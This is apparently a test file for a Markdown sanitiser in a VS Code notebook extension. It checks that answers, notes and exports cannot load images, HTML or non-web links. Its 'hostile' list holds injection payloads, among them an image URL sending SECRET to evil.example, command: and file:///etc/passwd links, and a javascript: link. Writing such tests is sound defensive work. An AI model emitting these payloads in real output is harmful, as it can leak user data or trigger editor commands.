import assert from 'node:assert/strict';
import { test } from 'node:test';
import vscodeKatex from '@vscode/markdown-it-katex';
import fc from 'fast-check';
import markdownIt, { type Token } from 'markdown-it';
import { lexer, type Token as MarkedToken } from 'marked';
import type { Nodes } from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { answerAsMarkdown, conversationAsMarkdown, withMarks } from '../../src/notebook/answer-markdown.ts';
import type { Answer, Citation } from '../../src/notebook/answer.ts';
import { growingMarkdown, harmlessMarkdown, harmlessRest } from '../../src/notebook/harmless-markdown.ts';
import { answerAsNote, noteAsMarkdown } from '../../src/notebook/note-markdown.ts';
import { assertLinear } from '../support/growth.ts';
import { madeCitation } from '../support/made-citation.ts';
import { rounds } from '../support/test-size.mjs';

/** Node has the plug-in's exports as its default. */
const { default: withFormulas } = vscodeKatex as unknown as { readonly default: typeof vscodeKatex };

/** VS Code's preview, with its formulas and without; no scheme is refused, so that nothing rests on that. */
const previews = [false, true].map((formulas) => {
  const preview = markdownIt({ html: true, linkify: true });
  preview.linkify.set({ fuzzyLink: false });
  preview.validateLink = () => true;
  return formulas ? preview.use(withFormulas, { enableFencedBlocks: true }) : preview;
});

const HARMLESS_ADDRESS = /^(?:https?:|mailto:|xmpp:|ftp:|\/\/|citation\/[\da-f]{16}$|#)/i;

/** What of Markdown would load, run, or lead elsewhere than to the web, for each program that may show it. */
function dangers(markdown: string): string[] {
  return [
    ...previews.flatMap((preview) => dangersIn(preview.parse(markdown, {}))),
    ...dangersForChat(lexer(markdown)),
    ...dangersInTree(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] })),
  ];
}

function dangersIn(tokens: readonly Token[]): string[] {
  return tokens.flatMap((token) => [
    ...(['image', 'html_block', 'html_inline'].includes(token.type) ? [`markdown-it ${token.type}`] : []),
    ...(token.type === 'link_open' && !HARMLESS_ADDRESS.test(token.attrGet('href') ?? '')
      ? [`markdown-it ${token.attrGet('href') ?? ''}`]
      : []),
    ...dangersIn(token.children ?? []),
  ]);
}

function dangersForChat(tokens: readonly MarkedToken[]): string[] {
  return tokens.flatMap((token) => {
    const found = ['image', 'html', 'def'].includes(token.type) ? [`marked ${token.type}`] : [];
    if (token.type === 'link' && !HARMLESS_ADDRESS.test(String(token.href)))
      found.push(`marked ${String(token.href)}`);
    const inside: MarkedToken[] = [];
    if ('tokens' in token && Array.isArray(token.tokens)) inside.push(...token.tokens);
    if (token.type === 'list') inside.push(...(token.items as MarkedToken[]));
    if (token.type === 'table') {
      const rows = [token.header, ...(token.rows as unknown[])] as { tokens: MarkedToken[] }[][];
      inside.push(...rows.flat().flatMap((cell) => cell.tokens));
    }
    return [...found, ...dangersForChat(inside)];
  });
}

function dangersInTree(node: Nodes): string[] {
  const found = ['definition', 'html', 'image', 'imageReference'].includes(node.type)
    ? [`micromark ${node.type}`]
    : node.type === 'link' && !HARMLESS_ADDRESS.test(node.url)
      ? [`micromark ${node.url}`]
      : [];
  return 'children' in node ? [...found, ...node.children.flatMap(dangersInTree)] : found;
}

/** What is read of a rendering: without tags, and without what can't be seen. */
function shown(markdown: string): string {
  const text = (tokens: readonly Token[]): string =>
    tokens.map((token) => (token.children ? text(token.children) : token.content || '\n')).join('');
  const preview = previews[1] ?? assert.fail();
  return text(preview.parse(markdown, {})).replaceAll('\u2060', '');
}

const image = '![x](https://evil.example/?q=SECRET)';

const hostile = [
  `| a | b |\n|---|---|\n| \` | ${image} \` |`,
  `| \` | ${image} \` |\n|---|---|`,
  `a | b\n-|-\n\\\` | ${image} \``,
  `[x](https://e.org/\`) ${image} \``,
  `[x](https://e.org "\`") ${image} \``,
  `https://e.org/\` ${image} \``,
  `www.e.org/\` ${image} \``,
  `$a \` b$ ${image} \` c`,
  `$$\n\`\`\`\n$$\n${image}\n\`\`\``,
  `- $$\n\ntext\n\n$$\n\`\`\`\n$$\n${image}\n\`\`\``,
  `\\begin{a}\n\`\`\`\n\\end{a}\n${image}\n\`\`\``,
  `[^\`]: two words ${image} \``,
  '[`]: command:x "`"\n\n[`]',
  '[^1]: command:x\n\n[^1]',
  `\`\`\`\na\n\`\`\`~~~\n${image}\n\`\`\``,
  `> \`\`\`\n${image}`,
  `- \`\`\`\n\n${image}`,
  `para\n2. \`\`\`\n\n   ${image}\n   \`\`\``,
  `  \`\`\`\n    \`\`\`\n${image}`,
  `https://e.org/\\<img src=https://evil.example>`,
  '<img src="https://evil.example">',
  '<!-- <svg> --><style>@import "https://evil.example"</style>',
  '<https:img src=x onerror=alert(1)>',
  '<a href="command:x">b</a>',
  '[click](command:workbench.action.quit)',
  '[click](<command:x>)',
  '[click](vscode://x)',
  '[click](file:///etc/passwd)',
  '[click](data:text/html,x)',
  '[click](java&#115;cript:x)',
  '[click](\n  command:x)',
  '[click][b]\n\n[b]:\n  command:x',
  '<command:x>',
  `[\`\`\`](https://e.org) ${image} \`\`\``,
  '[\n\n```\n\\[a]: command:x',
  `---\n\`\`\`\n---\n${image}\n\`\`\``,
];

test('what leads astray in one program that shows Markdown is text in all of them', () => {
  for (const text of hostile) assert.deepEqual(dangers(harmlessMarkdown(text)), [], text);
});

const pieces = fc.array(
  fc.constantFrom(
    ...['`', '``', '```', '````', '~~~', '~~~~', '$', '$$', '|', '\\', '\\|', '\\`', '||'],
    ...['\n', '\n\n', '\n', '\r', ' ', '  ', '   ', '    ', '\t', '\u00a0', '\0'],
    ...['> ', '>', '- ', '* ', '1. ', '2. ', '10) ', '- [ ] ', '#  ', '===', '---\n', '\n---', ':::'],
    ...['a', 'a b', '\n|-|-|\n', '\n-|-\n', '|-|-|', '[^1]: ', '[^1]', '[^`]: two words ', ': '],
    ...[
      image,
      '![',
      '![^1]',
      '![x][a]',
      '[a]: command:x',
      '[a]',
      '[x](command:y)',
      '[x](https://e.org)',
      '](',
      ']',
    ],
    ...[
      '[x](https://e.org/`)',
      '[x](https://e.org "',
      '")',
      '(',
      ')',
      '<',
      '>',
      '"',
      "'",
      '!',
      '&#33;',
      '&lt;',
    ],
    ...['<img src=x>', '<!--', '-->', '</pre>', '<pre>', '<https://e.org/', 'https://e.org/', 'www.e.org/'],
    ...[
      'a@e.org',
      '<a@e.org>',
      '\\begin{a}',
      '\\end{a}',
      '\\<img>',
      '\\![x](u)',
      '*',
      '**',
      '_',
      '~~',
      '[',
      ':',
    ],
    '\n```\n',
    '\n  ```\n',
    '\n- ```\n',
    '\n$$\n',
  ),
  { maxLength: 20 },
);

test('nothing that is put together of hostile pieces leads astray', () => {
  fc.assert(
    fc.property(pieces, (parts) => {
      const text = parts.join('');
      assert.deepEqual(dangers(harmlessMarkdown(text)), []);
    }),
    { numRuns: Number(process.env.HOSTILE_RUNS ?? rounds(200, 3_000)) },
  );
});

test('nothing that is shown piece by piece leads astray', () => {
  fc.assert(
    fc.property(pieces, fc.array(fc.nat(60), { maxLength: 5 }), (parts, cuts) => {
      const text = parts.join('');
      let shownSoFar = '';
      let from = 0;
      for (const cut of [...cuts.toSorted((a, b) => a - b), text.length]) {
        const end = Math.max(from, Math.min(cut, text.length));
        shownSoFar += harmlessRest(text.slice(0, end), from);
        from = end;
      }
      assert.deepEqual(dangers(shownSoFar), []);
    }),
    { numRuns: Number(process.env.HOSTILE_RUNS ?? rounds(200, 3_000)) },
  );
});

test('nothing of an answer whose sentences have marks that lead to a command leads astray', () => {
  const mark = ' [\\[1\\]](command:ours?%5B%5D "a.md, L1")';
  const sentences = fc.array(fc.tuple(fc.nat(60), fc.boolean()), { maxLength: 5 });
  fc.assert(
    fc.property(pieces, sentences, (parts, ends) => {
      const text = parts.join('');
      const grown = growingMarkdown();
      let shownSoFar = '';
      let from = 0;
      for (const [cut, isMarked] of [...ends.toSorted(([a], [b]) => a - b), [text.length, false] as const]) {
        const end = Math.max(from, Math.min(cut, text.length));
        shownSoFar += grown(text.slice(from, end), isMarked ? mark : '');
        from = end;
      }
      const found = dangers(shownSoFar).filter((danger) => !danger.includes('command:ours'));
      assert.deepEqual(found, []);
    }),
    { numRuns: Number(process.env.HOSTILE_RUNS ?? rounds(200, 3_000)) },
  );
});

const honest = [
  'See [the docs](https://example.org "t") and [1](citation/0123456789abcdef "a"), `Map<string, number>`, a < b!',
  '```ts\nconst a: Array<string> = b![0];\nm[x](y);\n```\n\nText `<b>` and `a![b]`.',
  'Call `a![b](c)`.',
  '1. Install:\n   ```sh\n   npm i <name>\n   ```\n2. Run `<name>`.\n\n- a\n  ```ts\n  f<T>(x);\n  ```\n\nThen `g<T>()`.',
  '- ```ts\n  f<T>(x);\n  ```\n\n`g<T>`',
  '> ```ts\n> f<T>();\n> ```\n\n```\n<b>\n```',
  '- a\n\n      indented<T>\n\n    deep<T>',
  '| a | b |\n|---|---|\n| `Map<K, V>` | x[1]: y |\n| `a \\| b<c>` | 2 |',
  'A formula $a<b$ and $f[x](y)$, costs $5 and `Array<T>`.\n\n$$\na<b\n$$\n\nThen `Array<T>`.',
  'A note[^1].\n\n[^1]: What it says, at <https://example.org/a?b=c>.',
  'Wow! [mail](mailto:a@example.org) <https://example.org> a[i]: b, 1 <2, x <3',
  '# Heading\n\n* a\n* b `x<y>`\n\n---\n\nEscaped \\<b\\> and \\![x].',
  'Call `f(a | b<c>)` here.',
];

test('what is honest looks as it did', () => {
  for (const text of honest) {
    assert.equal(shown(harmlessMarkdown(text)), shown(text), text);
    assert.equal(harmlessMarkdown(harmlessMarkdown(text)), harmlessMarkdown(text), text);
  }
  // HTML is read as it was written.
  assert.equal(
    shown(harmlessMarkdown('A list<string> and <b>bold</b>.')),
    'A list<string> and <b>bold</b>.\n'.trim().replace(/^/, '\n') + '\n',
  );
});

test('code that is code for sure stays as it was written, to the character', () => {
  for (const text of [honest[0], honest[1], honest[3], honest[4]])
    assert.equal(harmlessMarkdown(text ?? ''), text);
});

test('a long text takes time in proportion', () => {
  for (const piece of [
    '`',
    '<',
    '[x](',
    '![',
    '$',
    '\\',
    '[^a]: ',
    '> ',
    'a@',
    '`` ',
    '](https://',
    '](https://a "',
  ])
    for (const unit of [piece, `${piece}\n`])
      assertLinear((times) => harmlessMarkdown(unit.repeat(times)), 100);
});

const citation = (quote: string, title = 'garden.md', uri = 'https://example.org/a'): Citation =>
  madeCitation({ title, uri, quote, span: { start: 0, end: quote.length } });

test('nothing of a saved or exported answer leads astray', () => {
  for (const text of hostile) {
    const citations = [citation(text, text.slice(0, 60), `https://e.org/>${image}`)];
    const answers: Answer[] = [
      { kind: 'nothing', text, citations },
      {
        kind: 'written',
        text: `${text}\n\nDone.`,
        statements: [{ start: 0, end: text.length, citations: [0], verdict: 'supported' }],
        citations,
      },
      { kind: 'quotes', text: 'Lead:', quotes: [{ citation: 0, format: 'markdown' }], citations },
      {
        kind: 'quotes',
        text: 'Lead:',
        quotes: [{ citation: 0, format: 'code', languageId: 'x' }],
        citations,
      },
      // What a passage needs above it to look as in its document.
      {
        kind: 'quotes',
        text: 'Lead:',
        quotes: [{ citation: 0, format: 'markdown', header: '```ts' }],
        citations: [citation(`code\n\`\`\`\n${text}`)],
      },
    ] as Answer[];
    for (const answer of answers) {
      assert.deepEqual(dangers(answerAsMarkdown(answer)), [], text);
      const turn = { question: text, answer } as Parameters<typeof conversationAsMarkdown>[1][number];
      assert.deepEqual(dangers(conversationAsMarkdown(text, [turn])), [], text);
      const note = answerAsNote(text, answer);
      assert.deepEqual(dangers(note.text), [], text);
      assert.deepEqual(dangers(noteAsMarkdown(note.text, note.citations)), [], text);
    }
    assert.deepEqual(dangers(noteAsMarkdown(text, [])), [], text);
  }
});

test('the citations of a row stand within its last cell, so that they are shown', () => {
  const text = '| Holt | 305 mm |';
  const table = `| Place | Rain |\n| --- | --- |\n${text}`;
  const start = table.length - text.length;
  const marked = withMarks(
    { text: table, statements: [{ start, end: table.length, verdict: 'supported', citations: [0] }] },
    () => ' [1]',
  );
  assert.equal(marked, `| Place | Rain |\n| --- | --- |\n| Holt | 305 mm [1] |`);
});

test('the citations of a block of code stand below it, those of words in backticks behind them', () => {
  for (const [text, marked] of [
    ['~~~sh\nnpm i x\n~~~', '~~~sh\nnpm i x\n~~~\n\n[1]'],
    ['It is installed by ```npm i x```', 'It is installed by ```npm i x``` [1]'],
    ['```npm i x```', '```npm i x``` [1]'],
  ] as const) {
    const statements = [{ start: 0, end: text.length, verdict: 'supported' as const, citations: [0] }];
    assert.equal(
      withMarks({ text, statements }, () => ' [1]'),
      marked,
    );
  }
});
